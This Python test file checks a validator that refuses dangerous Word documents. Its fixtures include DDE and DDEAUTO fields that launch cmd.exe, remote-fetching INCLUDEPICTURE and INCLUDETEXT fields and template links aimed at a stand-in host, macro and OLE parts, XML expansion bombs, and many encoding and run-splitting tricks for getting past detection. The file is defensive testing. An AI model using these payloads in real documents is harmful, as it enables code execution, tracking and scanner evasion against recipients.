"""What a Word document could still do when it is opened: each was taken until this was written."""

import io
import os

import pytest

from cases.files import word
from cases.files.content import look_at
from cases.files.kinds import Refused
from tests.attacks.proof import shows
from tests.cases.made_up_files import TYPES, docx

MACROS = TYPES.replace("document.main", "document.macro&#69;nabled.main")
SPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TIES = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
KINDS = "http://schemas.microsoft.com/office/2006/relationships"


def taken(document: bytes) -> bool:
    """Tell whether a document may be added."""
    try:
        return look_at(io.BytesIO(document)).kind.code == "docx"
    except Refused:
        return False


def says(*runs: str, begin: str = '<w:fldChar w:fldCharType="begin" w:dirty="true"/>') -> bytes:
    """Return a document with a field of these pieces, as Word cuts a text into runs."""
    pieces = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    body = f"<w:document {SPACE}><w:p><w:r>{begin}</w:r>{pieces}</w:p></w:document>"
    return docx(("word/header1.xml", body))


UTF_16 = '<?xml version="1.0" encoding="utf-16"?>'


@pytest.mark.parametrize("types", [MACROS, (UTF_16 + MACROS).encode("utf-16")])
def test_macros_are_found_however_the_list_of_parts_is_written(types):
    assert not taken(docx(types=types))
    assert taken(docx(types=(UTF_16 + TYPES).encode("utf-16")))


@pytest.mark.parametrize("kind", ["vbaProject", "oleObject", "control"])
def test_macros_and_programs_are_found_whatever_their_part_is_called(kind):
    tie = f'<Relationship Id="r1" Type="{KINDS}/{kind}" Target="plaatje.bin"/>'
    ties = f"{TIES}{tie}</Relationships>"
    assert not taken(docx(("word/_rels/document.xml.rels", ties), ("word/plaatje.bin", b"x")))


@pytest.mark.parametrize("kind", ["aFChunk", "AFCHUNK", "webextensiontaskpanes"])
@pytest.mark.parametrize("name", ["deel.html", "deel.mht", "deel.rtf"])
def test_no_other_document_is_taken_in_when_it_is_opened(kind, name):
    """A web page or RTF in it becomes a part of it as Word opens it: its pictures are fetched, and
    its own fields and programs are nobody's that looked at the document's."""
    tie = f'<Relationship Id="r1" Type="{KINDS}/{kind}" Target="/word/{name}"/>'
    page = "<html><img src='https://kwaad.example/oog.png'></html>"
    ties = ("word/_rels/document.xml.rels", f"{TIES}{tie}</Relationships>")
    assert not taken(docx(ties, (f"word/{name}", page)))


@pytest.mark.parametrize(
    "runs",
    [
        ["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"],
        [" DD", "E ", "Excel &quot;x&quot;"],
        ["DATABASE \\\\d &quot;//kwaad.example/map/x.mdb&quot;"],
        ["INCLUDEPICTURE &quot;https://kwaad.example/oog.png&quot; \\d"],
        ["INCLUDE", "TEXT &quot;\\\\\\\\kwaad.example\\\\deel\\\\x.docx&quot;"],
        ["INCLUDEPICTURE &quot;http&#58;//kwaad.example/oog.png&quot;"],
    ],
)
def test_no_field_fetches_or_runs_anything(runs):
    assert not taken(says(*runs))


def written_in(code: str, body: str) -> bytes:
    return docx(("word/header1.xml", f'<?xml version="1.0" encoding="{code}"?>{body}'.encode()))


@pytest.mark.parametrize(
    ("code", "begins", "says_it"),
    [
        ("UTF-8", "fldChar", "instrText"),
        ("UTF-7", "fld+AEM-har", "i+AG4-strText"),
        ("ISO-2022-JP", "fld\x1b(JC\x1b(Bhar", "i\x1b(Jn\x1b(BstrText"),
        ("HZ-GB-2312", "fld~\nChar", "i~\nnstrText"),
    ],
)
def test_nor_one_that_is_written_in_another_code(code, begins, says_it):
    """Its name stands there in no byte of its own: what is searched in is read first."""
    run = f'<w:r><w:{begins} w:fldCharType="begin"/></w:r>'
    what = f'<w:r><w:{says_it}>INCLUDEPICTURE "https://kwaad.example/x"</w:{says_it}></w:r>'
    assert not taken(written_in(code, f"<w:document {SPACE}><w:p>{run}{what}</w:p></w:document>"))


@pytest.mark.parametrize("code", ["UTF-8", "utf-8", "iso-8859-1", "us-ascii", "windows-1252"])
def test_a_text_in_a_known_code_is_taken(code):
    assert taken(written_in(code, f"<w:document {SPACE}><w:p/></w:document>"))


def test_nor_one_of_which_another_field_says_what_it_is():
    """{ { QUOTE 68 68 69 } … }: Word reads the outer one as DDE."""
    begin = '<w:fldChar w:fldCharType="begin"/>'
    assert not taken(says("QUOTE 68 68 69", begin=begin + begin))


def test_nor_does_one_that_says_it_all_at_once():
    field = '<w:fldSimple w:instr="INCLUDEPICTURE http://kwaad.example/oog.png"/>'
    assert not taken(says(begin=field))


SO_FAR = {
    "bytes of where names belong": (300, lambda most: f'<a xmlns="{"u" * most}"/>'),
    "signs of four bytes": (75, lambda most: f'<a xmlns:x="{chr(0x10FFFF) * most}"/>'),
    "attributes": (500, lambda most: "<a " + " ".join(f'b{one}=""' for one in range(most)) + "/>"),
    "elements in one another": (499, lambda most: "<a>" * most + "</a>" * most),
}


@shows("file-2")
@pytest.mark.parametrize("more", [False, True])
@pytest.mark.parametrize("what", SO_FAR)
def test_no_part_grows_as_it_is_read(what, more):
    """With a name of where names belong before each, of 15 kilobytes became two gigabytes."""
    most, written = SO_FAR[what]
    body = f"<w:document {SPACE}><!-- fldChar -->{written(most + more)}</w:document>"
    assert taken(docx(("word/header1.xml", body))) != more


@shows("file-2")
def test_what_stands_between_two_marks_is_short_and_a_text_as_long_as_it_is():
    letters = os.urandom(1_200_000).hex()
    for body, is_taken in ((letters, True), (f"<!-- {letters} -->", False)):
        text = f"<w:document {SPACE}><!-- fldChar -->{body}</w:document>"
        assert taken(docx(("word/header1.xml", text))) == is_taken


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FETCHES = (
    f'<w:document {SPACE}><w:fldSimple w:instr="INCLUDEPICTURE http://kwaad.example/oog.png"/>'
    "</w:document>"
)


@pytest.mark.parametrize("kind", ["officeDocument", "header", "footnotes"])
def test_a_text_is_read_whatever_it_is_called(kind):
    """Word finds a part by its tie, and we read those that are called as texts are."""
    tie = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="brief.dat"/>'
    tied = docx(
        ("word/_rels/document.xml.rels", f"{TIES}{tie}</Relationships>"),
        ("word/brief.dat", FETCHES),
    )
    assert not taken(tied)
    assert not taken(docx(("word/_rels/document.xml.rels", f"{TIES}{tie}</Relationships>")))


@pytest.mark.parametrize(
    "said",
    [
        'Override PartName="/word/brief.dat"',
        'Override PartName="/word/brief.x%6Dl"',
        'Default Extension="dat"',
        'Default Extension="vml"',
    ],
)
def test_nor_is_a_part_of_another_name_a_text_by_the_list_of_parts(said):
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    types = TYPES.replace("</Types>", f'<{said} ContentType="{kind}"/></Types>')
    assert types != TYPES
    assert not taken(docx(("word/brief.dat", FETCHES), types=types))


@pytest.mark.parametrize(
    ("ending", "kind"),
    [
        ("psmdcp", "application/vnd.openxmlformats-package.core-properties+xml"),
        ("bin", "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings"),
        ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("xhtml", "application/xhtml+xml"),
    ],
)
def test_what_programs_write_beside_the_text_is_taken(ending, kind):
    said = f'<Default Extension="{ending}" ContentType="{kind}"/></Types>'
    assert taken(docx((f"word/x.{ending}", "x"), types=TYPES.replace("</Types>", said)))


@pytest.mark.parametrize(
    "target",
    [
        "%68ttp://kwaad.example/a.dotm",
        "ms-word:ofe|u|http://kwaad.example/a.dotm",
        "x-usc:http://kwaad.example/a.html!x-usc:http://kwaad.example/a.html",
        "ms-search:x",
        "/x/a.dotm",
        "file:kwaad.example/a.dotm",
        "file://///kwaad.example/deel/a.dotm",
        "file:///%5C%5Ckwaad.example/deel/a.dotm",
        "%5C%5Ckwaad.example%5Cdeel%5Ca.dotm",
        "http%3A%2F%2Fkwaad.example/a.dotm",
        "/Users//kwaad.example/a.dotm",
        "/Users/../x/a.dotm",
        "/Users/jan/%2E./%2e%2E/x/a.dotm",
        "/Users%2F%2Fkwaad.example/a.dotm",
        "/Usersx/a.dotm",
        "Macintosh%20HD://kwaad.example/a.dotm",
        "Macintosh%20HD:Users:%2F%2Fkwaad.example",
        "about:blank/../x",
        "about:home",
        "cid://kwaad.example/oog.png",
        "cid:x%2F%2Fkwaad.example",
        "data:text/html,&lt;img src='http://kwaad.example/oog.png'&gt;",
        "data:image/svg+xml;base64,PHN2Zy8+",
    ],
)
def test_no_tie_leads_elsewhere_in_whatever_way_it_is_written(target):
    tie = f'<Relationship Id="r1" Type="{OFFICE}/{{}}" Target="{target}" TargetMode="External"/>'
    for kind in ("attachedTemplate", "image", "frame", "subDocument"):
        ties = f"{TIES}{tie.format(kind)}</Relationships>"
        assert not taken(docx(("word/_rels/settings.xml.rels", ties))), kind


@pytest.mark.parametrize(
    "target",
    [
        "file:///C:\\Users\\x\\Normal.dotm",
        "file:///C:/Users/Ren%C3%A9e/Normal.dotm",
        "file:///C:%5CUsers%5Cx.dotx",
        # As Word on a Mac ties each document to its template.
        "file:///Users/jan/Library/Group%20Containers/UBF8.Office/Templates.localized/Brief.dotx",
        "c:/x/a.dotm",
        "Brief school.dotm",
        "Brief%20M%C3%BCller(1)%5b2%5d.dotx",
        "beeld/logo.png",
        "NULL",
        "/Users/jan/Library/Group%20Containers/UBF8.Office/Brief.dotx",
        "Macintosh%20HD:Users:jan:Library:Normal.dotm",
        "Macintosh HD:Users:jan:Normal.dotm",
    ],
)
def test_one_to_this_machine_is_taken(target):
    tie = f'<Relationship Id="r1" Type="{OFFICE}/image" Target="{target}" TargetMode="External"/>'
    assert taken(docx(("word/_rels/settings.xml.rels", f"{TIES}{tie}</Relationships>")))


@pytest.mark.parametrize(
    "target",
    [
        "cid:image001.png@01DB1234.ABCD5678",
        "about:blank",
        "",
        "data:image/png;base64,iVBORw0KGgo=",
    ],
)
def test_one_that_fetches_nothing_is_taken(target):
    """What Word and Outlook leave behind of a mail: its pictures are ties to a part of that."""
    tie = f'<Relationship Id="r1" Type="{OFFICE}/image" Target="{target}" TargetMode="External"/>'
    assert taken(docx(("word/_rels/document.xml.rels", f"{TIES}{tie}</Relationships>")))


def test_no_document_asks_a_list_elsewhere_for_whom_it_is():
    merge = "<w:mailMerge><w:query w:val='SELECT * FROM x'/></w:mailMerge>"
    said = f"<w:settings {SPACE}>{{}}</w:settings>"
    assert not taken(docx(("word/settings.xml", said.format(merge))))
    assert taken(docx(("word/settings.xml", said.format(""))))


OTHERS = (
    f'{SPACE} xmlns:x="urn:x" xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main"'
    ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    ' xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
    ' xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"'
    ' xmlns:v="urn:schemas-microsoft-com:vml" mc:Ignorable="x"'
)
BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)


def says_in(body: str) -> bytes:
    """Return a document with these runs."""
    return docx(("word/header1.xml", f"<w:hdr {OTHERS}><w:p>{body}</w:p></w:hdr>"))


def run(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def either(chosen: str, fallback: str) -> str:
    return (
        f'<mc:AlternateContent><mc:Choice Requires="wps">{chosen}</mc:Choice>'
        f"<mc:Fallback>{fallback}</mc:Fallback></mc:AlternateContent>"
    )


FETCH = run("INCLUDEPICTURE &quot;http://kwaad.example/oog.png&quot;")
REST = run("LUDEPICTURE &quot;http://kwaad.example/oog.png&quot;")


@pytest.mark.parametrize(
    "body",
    [
        f"{BEGIN}<w:r><x:instrText>PAGE </x:instrText></w:r>{FETCH}{END}",
        f"{BEGIN}<x:y>{run('PAGE ')}</x:y>{FETCH}{END}",
        f'{BEGIN}<w:r><x:fldChar x:fldCharType="begin"/></w:r>{FETCH}{END}',
        f"{BEGIN}{run('INC')}{either('', run('X'))}{REST}{END}",
        f"{BEGIN}{either('', run('PAGE '))}{FETCH}{END}",
        f"{BEGIN}{either(FETCH, run('PAGE '))}{END}",
        f"{BEGIN}{run('PAGE ')}{either('', END + BEGIN)}{FETCH}{END}",
        f"{either('', BEGIN + run('PAGE '))}{BEGIN}{FETCH}{END}{END}",
        f"{BEGIN}{run('INC')}{BEGIN}{run('QUOTE LUDEPICTURE')}{SEPARATE}{END}{END}",
        f"{BEGIN}{run('INC')}<w:fldSimple w:instr='QUOTE LUDEPICTURE'/>{END}",
        f"{BEGIN}<w:r><w:instrText>INC </w:instrText><w:instrText> LUDE</w:instrText></w:r>{END}",
        f"{BEGIN}<w:r><w:instrText>INC<x:y/>LUDEPICTURE</w:instrText></w:r>{END}",
        f'<w:r><w:fldChar w:fldCharType="begin" x:fldCharType="end"/></w:r>{FETCH}{END}',
        f'<w:r><w:fldChar w:fldCharType="begin" s:fldCharType="end"/></w:r>{FETCH}{END}',
        '<w:fldSimple w:instr="INCLUDETEXT c:" x:instr="PAGE"/>',
        f"{BEGIN.replace('w:', 's:')}{FETCH.replace('w:', 's:')}",
    ],
)
def test_a_field_says_what_word_reads_whatever_word_leaves_out(body):
    """It was put together of pieces that Word drops: then it was a harmless one."""
    assert not taken(says_in(body))


def loose(text: str, kind: str = "t") -> str:
    """Return a run with a text as of a paragraph, or with one that was taken away."""
    return f"<w:r><w:{kind}>{text}</w:{kind}></w:r>"


AWAY = "delInstrText"


@pytest.mark.parametrize(
    "body",
    [
        f"<w:del>{BEGIN}{loose('INCLUDEPICTURE http://kwaad.example', AWAY)}{END}</w:del>",
        f"{BEGIN}{run('PAGE')}{END}{BEGIN}{loose('INCLUDETEXT x', AWAY)}{SEPARATE}{END}",
        f"{BEGIN}{loose('INC', AWAY)}{REST}{END}",
        f"{BEGIN}{loose('X', AWAY)}{FETCH}{END}",
        f"{BEGIN}{loose('INCLUDETEXT x')}{END}",
        f"{BEGIN}{loose('INC')}{REST}{END}",
        f"{BEGIN}{loose('INC', 'delText')}{REST}{END}",
        f"{BEGIN}{loose('X')}{FETCH}{END}",
        f"{BEGIN}{loose('X')}{loose('INC', AWAY)}{REST}{END}",
        f"{BEGIN}{loose('X', AWAY)}{loose('INC')}{REST}{END}",
        f"{BEGIN}{either('', loose('X'))}{loose('INC')}{REST}{END}",
        f"{BEGIN}<m:r><m:t>INC</m:t></m:r>{REST}{END}",
        f"{BEGIN}<w:r><w:t>INC<x:y/></w:t></w:r>{REST}{END}",
        f'{BEGIN}<w:r><w:sym w:font="Arial" w:char="0049"/></w:r>{REST}{END}',
        f"{BEGIN}{run('INC')}<w:r><w:softHyphen/></w:r>{REST}{END}",
        f"{BEGIN}{run('INC')}<w:r><w:noBreakHyphen/></w:r>{REST}{END}",
        f"{BEGIN}{run('INC&#xAD;&#x200B;')}{REST}{END}",
        '<w:fldSimple w:instr="INC&#xAD;LUDETEXT x"/>',
    ],
)
def test_a_field_says_all_that_stands_before_what_it_shows(body):
    """Only one of the elements was read of which it is made; each other one could hide it."""
    assert not taken(says_in(body))


PAGES = f"{BEGIN}{run(' PAGE ')}{SEPARATE}<w:r><w:t>2</w:t></w:r>{END}"
BOX = either(
    f"<w:drawing><wps:txbx><w:txbxContent>{PAGES}</w:txbxContent></wps:txbx></w:drawing>",
    f"<w:pict><v:textbox><w:txbxContent>{PAGES}</w:txbxContent></v:textbox></w:pict>",
)
IN_A_FORMULA = "".join(
    f"<m:r>{one.removeprefix('<w:r>').removesuffix('</w:r>')}</m:r>"
    for one in (BEGIN, run(" SEQ Formule "), END)
)


@pytest.mark.parametrize(
    "body",
    [
        PAGES,
        BOX,
        f"{BEGIN}{run(' HYPERLINK &quot;https://nji.nl&quot; ')}{SEPARATE}{BOX}{END}",
        f"{BEGIN}{run(' IF ')}{PAGES}{run(' = 1 x y ')}{SEPARATE}{END}",
        f"{BEGIN}{run('=')}{PAGES}{run('+1')}{END}",
        f"{BEGIN}{run(' TOC ')}{SEPARATE}{BEGIN}{run(' PAGEREF _Toc1 ')}{END}</w:p><w:p>{END}",
        f"<m:oMath>{IN_A_FORMULA}</m:oMath>",
        f"{BEGIN}{run(' SYMBOL 74 ')}{SEPARATE}<w:r><w:sym w:char='F04A'/></w:r>{END}",
        f"{BEGIN}{run(' DATE ')}{SEPARATE}{loose('LINK 3')}{loose('DDE', 'delText')}{END}",
        f"{BEGIN}{run(' IF 1 = 1 ')}{BOX}<w:r><w:noBreakHyphen/></w:r>{SEPARATE}{END}",
        f"<w:del>{BEGIN}{loose('HYPER', AWAY)}{loose('LINK x', AWAY)}{SEPARATE}{END}</w:del>",
        f"{BEGIN}{loose('DATE', AWAY)}{run('PAGE')}{SEPARATE}{loose('2')}{END}",
        f"{loose('LINK')}{loose('DDE', AWAY)}<w:r><w:sym w:char='F04A'/></w:r>",
        '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>3</w:t></w:r></w:fldSimple>',
        PAGES.replace("w:", "s:"),
    ],
)
def test_what_word_writes_is_taken(body):
    """Page numbers in text boxes, said twice: for a Word of today and for one of before."""
    assert taken(says_in(body))


@pytest.mark.parametrize("said", ["PAGE", "HYPERLINK &quot;https://nji.nl&quot;", "DATE \\@ d"])
def test_other_fields_are_taken(said):
    assert taken(says(said))


def test_parts_that_are_read_through_are_few_together(monkeypatch):
    """Each of a thousand was read through: a document of a megabyte took a processor's minute."""
    text = f"<w:document {SPACE}><w:instrText/></w:document>"
    ties = f"{TIES}</Relationships>"
    parts = [(f"word/header{n}.xml", text) for n in range(3)]
    parts += [(f"word/_rels/header{n}.xml.rels", ties) for n in range(3)]
    assert taken(docx(*parts))
    for name, fits in (("MOST_WITH_FIELDS", 0), ("MOST_TIES", len(TYPES))):
        two = len(text if name == "MOST_WITH_FIELDS" else ties) * 2
        with monkeypatch.context() as patch:
            patch.setattr(word, name, fits + two)
            assert not taken(docx(*parts))
            assert taken(docx(*parts[:2], *parts[3:5]))


def test_of_a_field_its_beginning_is_kept_however_many_lines_it_has():
    """Each line was put behind all before it: ten megabytes of them took ten minutes."""
    fields = word._Fields()
    (own, *__) = word.WORDS
    fields.start(f"{own} fldChar", {f"{own} fldCharType": "begin"})
    fields.end(f"{own} fldChar")
    fields.start(f"{own} instrText", {})
    for said in ("\n" * 9_000, "PAGE", *["x" * 90] * 90):
        fields.text(said)
    assert max(map(len, fields.open[-1].said)) <= word.BEGINNING
    assert not taken(says(*["&#10;" * 900, "DD", "E cmd"]))
    assert taken(says(*["&#10;" * 900, "PA", "GE"]))


USES = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


@pytest.mark.parametrize(
    ("element", "is_taken"),
    [
        ('<w:hyperlink r:id="rId9"/>', True),
        ('<a:hlinkClick xmlns:a="urn:a" r:id="rId9"/>', True),
        ('<a:blip xmlns:a="urn:a" r:embed="rId8"/>', True),
        ('<a:blip xmlns:a="urn:a" r:link="rId9"/>', False),
        ('<a:blip xmlns:a="urn:a" r:embed="rId9"/>', False),
        ('<v:imagedata xmlns:v="urn:v" r:id="rId9"/>', False),
        ('<a:audioFile xmlns:a="urn:a" r:link="rId9"/>', False),
    ],
)
@pytest.mark.parametrize("part", ["header1.xml", "drawing1.vml"])
def test_no_picture_is_fetched_by_a_tie_that_says_it_is_a_link(part, element, is_taken):
    """LibreOffice goes by the name of a tie alone, and asks nothing."""
    tie = (
        f'<Relationship Id="rId9" Type="{KINDS}/hyperlink" TargetMode="External" '
        'Target="https://kwaad.example/x.png"/>'
    )
    body = f"<w:document {SPACE} {USES}><w:p>{element}</w:p></w:document>"
    ties = (f"word/_rels/{part}.rels", f"{TIES}{tie}</Relationships>")
    for_another = ("word/footer1.xml", body)  # where the name is that of nothing
    assert taken(docx((f"word/{part}", body), ties, for_another)) is is_taken


@pytest.mark.parametrize("name", ["word/docu/ment.xml.rels", "word/x_rels/document.xml.rels"])
def test_nor_where_other_ties_seem_to_be_those_of_the_same_part(name):
    """Put together from another folder its name was the same, and its ties stood in their place."""
    tie = (
        f'<Relationship Id="rId9" Type="{KINDS}/hyperlink" TargetMode="External" '
        'Target="https://kwaad.example/x.png"/>'
    )
    picture = '<a:blip xmlns:a="urn:a" r:link="rId9"/>'
    body = ("word/header1.xml", f"<w:document {SPACE} {USES}><w:p>{picture}</w:p></w:document>")
    ties = ("word/_rels/header1.xml.rels", f"{TIES}{tie}</Relationships>")
    assert not taken(
        docx(body, ties, (name.replace("document", "header1"), f"{TIES}</Relationships>"))
    )
    assert not taken(docx(body, ties, ("word/head/er1.xml.rels", f"{TIES}</Relationships>")))
